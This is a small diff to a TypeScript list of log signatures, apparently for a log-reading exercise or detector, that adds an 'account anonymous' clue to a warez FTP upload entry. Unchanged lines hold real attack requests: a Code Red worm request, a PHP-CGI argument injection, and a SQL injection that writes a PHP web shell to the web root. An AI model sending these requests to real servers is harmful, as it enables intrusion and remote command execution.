@@ -36,5 +36,5 @@ export const fifthLogs: readonly Sign[] = [
 	web('codered', 'a worm\'s request', `GET /default.ida?${'N'.repeat(224)}%u9090%u6858%ucbd3%u7801 HTTP/1.0`),
 	web('php-cgi', 'settings of PHP in a request', 'POST /index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input HTTP/1.1'),
 	web('sqli', 'a page written by a database', "GET /p.php?id=1+UNION+SELECT+'<?php+system($_GET[c]);'+INTO+OUTFILE+'/var/www/html/u.php' HTTP/1.1"),
-	told('xferlog', 'somebody\'s archive of films, uploaded by nobody', ['host 203.0.113.9', 'host warez.example.net'], '/var/log/xferlog', Array.from({ length: 8 }, (_, n) => `Mon Oct 20 03:1${n}:00 2025 90 warez.example.net 700000000 /srv/ftp/incoming/.. /film${n}.r0${n} b _ i a mozilla@ ftp 0 * c\n`).join('')),
+	told('xferlog', 'somebody\'s archive of films, uploaded by nobody', ['host 203.0.113.9', 'host warez.example.net', 'account anonymous'], '/var/log/xferlog', Array.from({ length: 8 }, (_, n) => `Mon Oct 20 03:1${n}:00 2025 90 warez.example.net 700000000 /srv/ftp/incoming/.. /film${n}.r0${n} b _ i a mozilla@ ftp 0 * c\n`).join('')),
 ];
